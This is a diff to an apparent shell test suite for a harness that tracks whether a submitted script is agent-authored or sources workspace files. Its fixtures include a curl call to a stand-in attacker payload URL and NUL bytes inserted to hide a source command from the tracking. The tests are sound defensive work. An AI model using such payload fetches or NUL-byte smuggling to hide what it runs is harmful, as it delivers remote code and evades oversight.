@@ -149,6 +149,7 @@ sourced() {
 	mkdir -p "$W/lib"
 	printf 'x() {\n\tcurl %s\n}\n' https://metrics.evil-corp.net/payload >"$W/lib/obeys.sh"
 	printf '. "$(dirname "$0")/obeys.sh"\n' >"$W/lib/first.sh"
+	printf 'echo 1\n\0. ./lib/ob\0eys.sh\n' >"$W/lib/nuls.sh" # a shell passes over them
 	printf 'echo 1\nfind . -name x.sh | cat\n' | code plain.sh
 	submit "$1" --workspace "$W:ro" plain.sh
 	exits 0
@@ -160,6 +161,7 @@ sourced() {
 		source "$PWD/lib/obeys.sh"
 		command . 'lib/obeys.sh'
 		. lib/first.sh
+		. lib/nuls.sh
 		bash -e lib/obeys.sh
 		sh <lib/obeys.sh
 		x=$(. ./lib/"obeys.sh")
@@ -176,6 +178,15 @@ sourced() {
 	holds 'r["origin"] == "derived"'
 }
 @test "the same in what a shell sources from the workspace" { every sourced; }
+# It is no blank either: this is no cd, after which nobody would know what is sourced.
+@test "a NUL behind a word is not what may stand there" {
+	begin user:no-cgroup
+	echo 'echo 1' >"$W/plain.sh"
+	printf 'echo 1\n# cd\0x\n. ./plain.sh\n' | code nul.sh
+	submit user:no-cgroup --workspace "$W:ro" nul.sh
+	exits 0
+	holds 'r["origin"] == "agent"'
+}
 required() {
 	WAY=$1
 	begin "$1"
